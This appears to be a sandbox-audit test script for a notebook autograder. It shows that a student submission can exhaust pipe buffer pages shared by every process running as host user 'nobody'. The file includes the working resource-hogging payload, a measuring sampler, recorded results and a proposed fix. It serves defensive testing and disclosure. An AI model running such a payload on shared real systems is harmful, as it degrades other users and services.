# a04 (root, ps3_batch): pipe buffer pages are counted per HOST user (struct user_struct, fs.pipe-user-pages-soft =
# 16384 pages = 64 MiB), not per user namespace, and no seccomp rule or rlimit covers them. As root every sandbox
# (kernels and observers of every submission) is host uid 65534, which is also `nobody`, the user other services
# (and here the ordinary-user grader) run as. A kernel raises 80 pipes to 1 MiB each (F_SETPIPE_SZ; 80 MiB, within
# its 6 GiB cgroup): past the soft limit, every NEW pipe of every uid-65534 process on the host (other submissions'
# kernels, observers, ranks; other services) gets the minimum buffer (2 pages) and cannot be enlarged (EPERM).
# A host-side sampler (a process of this script that setuid()s to 65534, outside any sandbox) makes a pipe every
# 0.25 s and records its F_GETPIPE_SZ and whether F_SETPIPE_SZ 1 MiB works. The kernel holds the pipes 4 s only.
# RESULT: see the end of this file.
import fcntl, os, sys, time, multiprocessing as mp
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "round5"))
from monitor import ac, grade_watched

HOG = r'''
import fcntl, os, time
F_SETPIPE_SZ, F_GETPIPE_SZ = 1031, 1032
held, sizes, errors = [], [], []
for i in range(80):
    r, w = os.pipe()
    try:
        sizes.append(fcntl.fcntl(w, F_SETPIPE_SZ, 1 << 20))
    except OSError as e:
        errors.append(e.errno)
    held.append((r, w))
print("raised", len(sizes), "pipes to", set(sizes), "errors", errors[:3], len(errors))
r, w = os.pipe(); print("a new pipe in the kernel now holds", fcntl.fcntl(w, F_GETPIPE_SZ))
time.sleep(4)
for r, w in held:
    os.close(r); os.close(w)
'''

def sampler(stop, out):
    os.setgid(65534); os.setuid(65534)
    F_SETPIPE_SZ, F_GETPIPE_SZ = 1031, 1032
    while not stop.is_set():
        r, w = os.pipe()
        size = fcntl.fcntl(w, F_GETPIPE_SZ)
        try:
            fcntl.fcntl(w, F_SETPIPE_SZ, 1 << 20); grow = "ok"
        except OSError as e:
            grow = f"errno {e.errno}"
        os.close(r); os.close(w)
        out.put((round(time.time(), 2), size, grow))
        time.sleep(0.25)

if __name__ == "__main__":
    students = {"piper": ac.notebook(append={"per_rank_batch": HOG}, assignment="ps3_batch")}
    dest = ac.make_course("r7-a04", students, assignment="ps3_batch")
    stop, q = mp.Event(), mp.Queue()
    p = mp.Process(target=sampler, args=(stop, q)); p.start()
    grade_watched(dest)
    stop.set(); time.sleep(0.5)
    rows = []
    while not q.empty():
        rows.append(q.get())
    p.join()
    small = [r for r in rows if r[1] < 65536]
    print("host samples as uid 65534:", len(rows), "with a small default buffer:", len(small))
    for r in small[:20]:
        print("  ", r)
    print("normal sample:", next((r for r in rows if r[1] >= 65536), None))
    os.system(f"""python3 -c "import json;nb=json.load(open('{dest}/autograded/piper/ps3_batch/ps3_batch.ipynb'));[print(''.join(o.get('text',''))) for c in nb['cells'] if c['metadata'].get('nbgrader',{{}}).get('grade_id')=='per_rank_batch' for o in c.get('outputs',[])]" """)
# RESULT (root, 09:21 UTC, /tmp/attack-course-r7-a04, a04_pipe_pages_per_host_user.out.txt): BROKEN (a per-host-user
# kernel object no seccomp rule or rlimit covers). In the kernel: 63 pipes raised to 1 MiB, then EPERM (the soft
# limit reached for host uid 65534). Host sampler, a process of uid 65534 OUTSIDE every sandbox: 358 samples, 16
# in a row (the 4 s the kernel held its pipes) got a new pipe of 8192 bytes (instead of 65536) that could not be
# enlarged (F_SETPIPE_SZ -> EPERM); before and after, 65536 and "ok". The memory is charged to the kernel's cgroup,
# but the COUNT is the host user's (struct user_struct), shared with every other sandbox of the run (the next
# submission's warm kernel, observers, ranks), the ordinary-user grader running as nobody here, and any service
# running as nobody. With fs.pipe-user-pages-hard set (0 here = none), new pipes would fail outright.
# Fix direction: a sandbox user per submission (a uid from a range, not 65534 for all), or count it: there is no
# rlimit for it, so refuse fcntl(F_SETPIPE_SZ) in the filter and cap pipes through the open-files limit.
